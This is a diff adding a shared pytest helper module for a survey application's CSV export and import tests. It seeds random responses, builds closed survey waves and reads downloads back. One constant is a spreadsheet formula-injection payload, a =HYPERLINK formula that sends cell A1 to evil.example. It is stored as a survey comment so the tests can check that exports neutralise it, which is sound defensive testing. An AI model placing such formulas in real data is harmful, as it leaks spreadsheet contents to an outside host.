@@ -1,0 +1,156 @@
+"""A scored history to download and import again, and the helpers that read files back:
+shared by ``test_exports.py`` and ``test_imports.py`` (a test module imports no other)."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import uuid
+
+import numpy as np
+import pytest
+from sqlalchemy import insert, text
+
+from survey_app.extensions import db
+from survey_app.models import Answer, Comment, Response, Wave
+from survey_app.services import exports
+from survey_app.services.accounts.sign_in import ensure_user
+from survey_app.services.instruments import frozen_instrument
+from survey_app.services.waves import close_wave
+from tests.conftest import csrf_token
+
+PASSWORD = "downloads test passphrase"
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+SMALL_CELL_COMMENT = "Only two of us work here, so you can tell who wrote this."
+
+
+def insert_responses(
+    wave: Wave, cells: list[tuple[str, str | None, str | None, int]], *, seed: int
+):
+    """Insert ``n`` responses for each (side, area key, role, n), with answers drawn from a
+    seeded generator: some "don't know", some skipped, as real data has.
+
+    Returns the response ids in insertion order.
+    """
+    rng = np.random.default_rng(seed)
+    instrument = frozen_instrument(wave.instrument_version)
+    areas = {a.key: a.id for a in wave.relationship.service_areas}
+    responses, answers, ids = [], [], []
+    for side, area, role, n in cells:
+        for _ in range(n):
+            rid = uuid.UUID(bytes=rng.bytes(16), version=4)
+            ids.append(rid)
+            responses.append(
+                {
+                    "id": rid,
+                    "wave_id": wave.id,
+                    "instrument_version_id": wave.instrument_version_id,
+                    "side": side,
+                    "service_area_id": areas[area] if area else None,
+                    "role_level": role,
+                }
+            )
+            for item_no, item in enumerate(instrument.items):
+                draw = rng.random()
+                if draw < 0.05:
+                    continue  # skipped
+                if item.dont_know and draw < 0.12:
+                    answers.append({"response_id": rid, "item_no": item_no, "value": None})
+                else:
+                    value = int(rng.integers(1, instrument.scale.points + 1))
+                    answers.append({"response_id": rid, "item_no": item_no, "value": value})
+    db.session.execute(insert(Response), responses)
+    db.session.execute(insert(Answer), answers)
+    return ids
+
+
+def make_history(factory, *, labels=("2024-Q1", "2024-Q2")):
+    """A relationship with closed waves of 26 responses each (results computed on closing) and
+    an open wave. In the first wave, one response in a 12-person cell left a formula-like
+    comment, and one in a 2-person cell left a comment that must not be downloaded."""
+    rel = factory.relationship()
+    for i, label in enumerate(labels):
+        wave = factory.wave(rel, label, state="open")
+        ids = insert_responses(
+            wave,
+            [
+                ("client", "core-ict", "staff", 12),
+                ("client", "contact-centre", "manager", 6),
+                ("supplier", "core-ict", "staff", 6),
+                ("supplier", "contact-centre", "executive", 2),
+            ],
+            # Seeds whose answers give no two areas exactly equal means: with such data the
+            # scoring service stores an ICC(2) of -inf, which PostgreSQL's JSON refuses
+            # (reported to the scoring service's owner).
+            seed=102 + i,
+        )
+        if i == 0:
+            db.session.execute(
+                insert(Comment),
+                [
+                    {"response_id": ids[0], "question_key": "comment_improve", "text": HYPERLINK},
+                    {
+                        "response_id": ids[1],
+                        "question_key": "comment_keep",
+                        "text": "-2 meetings a week",
+                    },
+                    {
+                        "response_id": ids[-1],
+                        "question_key": "comment_improve",
+                        "text": SMALL_CELL_COMMENT,
+                    },
+                ],
+            )
+        close_wave(wave)
+        db.session.commit()
+    factory.wave(rel, "2099-Q1", state="open")
+    db.session.refresh(rel)  # loaded, so its id and name stay readable after a request
+    return rel
+
+
+#: The ``history`` fixture (``make_history`` with the test's factory). A test module takes it
+#: by importing this name; its tests then ask for ``history``.
+history_fixture = pytest.fixture(make_history, name="history")
+
+
+def download_bytes(table: str, fmt: str, relationship, wave: str | None = None) -> bytes:
+    rel_id = relationship if isinstance(relationship, int) else relationship.id
+    prepared = exports.prepare_download(table, fmt, exports.export_scope(rel_id, wave))
+    return b"".join(prepared.chunks)
+
+
+def read_csv(data: bytes) -> list[list[str]]:
+    assert data.startswith(b"\xef\xbb\xbf"), "CSV starts with a UTF-8 byte-order mark"
+    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
+
+
+def signed_in_client(app, role: str):
+    client = app.test_client()
+    email = f"{role}@exchange.example"
+    ensure_user(email, f"Exchange {role}", role, PASSWORD)
+    db.session.commit()
+    page = client.get("/sign-in")
+    answer = client.post(
+        "/sign-in",
+        data={
+            "csrf_token": csrf_token(page.get_data(as_text=True)),
+            "email": email,
+            "password": PASSWORD,
+        },
+    )
+    assert answer.status_code == 302
+    return client
+
+
+def database_digest() -> str:
+    """A digest of every row of every table: equal before and after means nothing changed."""
+    digest = hashlib.sha256()
+    for table in db.metadata.sorted_tables:
+        columns = ", ".join(f'"{c.name}"' for c in table.columns)
+        order = ", ".join(f'"{c.name}"' for c in table.primary_key.columns) or columns
+        for row in db.session.execute(
+            text(f'SELECT {columns} FROM "{table.name}" ORDER BY {order}')
+        ):
+            digest.update(repr(tuple(row)).encode())
+    return digest.hexdigest()
